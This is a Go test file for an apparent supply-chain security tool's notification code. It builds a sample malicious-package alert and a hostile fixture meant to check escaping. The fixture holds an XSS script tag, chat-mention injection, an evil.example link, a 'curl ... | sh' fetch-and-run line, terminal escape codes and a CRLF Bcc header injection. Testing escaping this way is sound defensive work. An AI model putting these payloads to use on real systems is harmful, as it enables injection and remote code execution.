package notify_test

import (
	"testing"
	"time"

	"github.com/safeguard-dev/safeguard/internal/notify"
)

var eventTime = time.Date(2026, 12, 2, 13, 0, 0, 0, time.UTC)

func alert() notify.Message {
	return notify.Message{
		ID:       "alert_42",
		Type:     notify.TypeKnownMalicious,
		Time:     eventTime,
		Project:  "web-shop",
		Package:  "requestz",
		Version:  "1.0",
		Summary:  "requestz 1.0 is known malicious (MAL-2026-1)",
		Reasons:  []notify.Reason{{Advisory: "MAL-2026-1"}},
		Declared: []notify.Location{{File: "requirements.txt", Line: 3}},
		Advice:   "Remove requestz; you probably meant requests.",
	}
}

// hostileMessage is an alert whose attacker-controlled fields try to
// inject markup, mentions, headers and escape sequences.
func hostileMessage() notify.Message {
	return notify.Message{
		ID:      "alert_01JEXAMPLE-1",
		Type:    notify.TypeMalicious,
		Time:    eventTime,
		Project: "web-shop",
		Package: "<script>alert(1)</script>",
		Version: "1.0 & <!channel>",
		Summary: "install-time code sends ~/.ssh to <http://evil.example|a link>",
		Reasons: []notify.Reason{{
			Rule:     "exfiltrate-credentials",
			Severity: "critical",
			File:     "setup.py",
			Line:     12,
			Snippet:  "import os\n\tos.system('curl http://127.0.0.1/x | sh') # ```<@U123>\x1b[31m",
			Message:  "reads ~/.ssh and posts it\r\nBcc: evil@example.net",
		}, {Advisory: "MAL-2026-1234"}},
		Declared: []notify.Location{{File: "requirements.txt", Line: 3}, {File: "pyproject.toml"}},
		Advice:   "Remove <script>alert(1)</script> & pin the last good version.",
	}
}

func mustParse(t *testing.T, spec string) notify.Target {
	t.Helper()
	target, err := notify.Parse(spec)
	if err != nil {
		t.Fatal(err)
	}
	return target
}
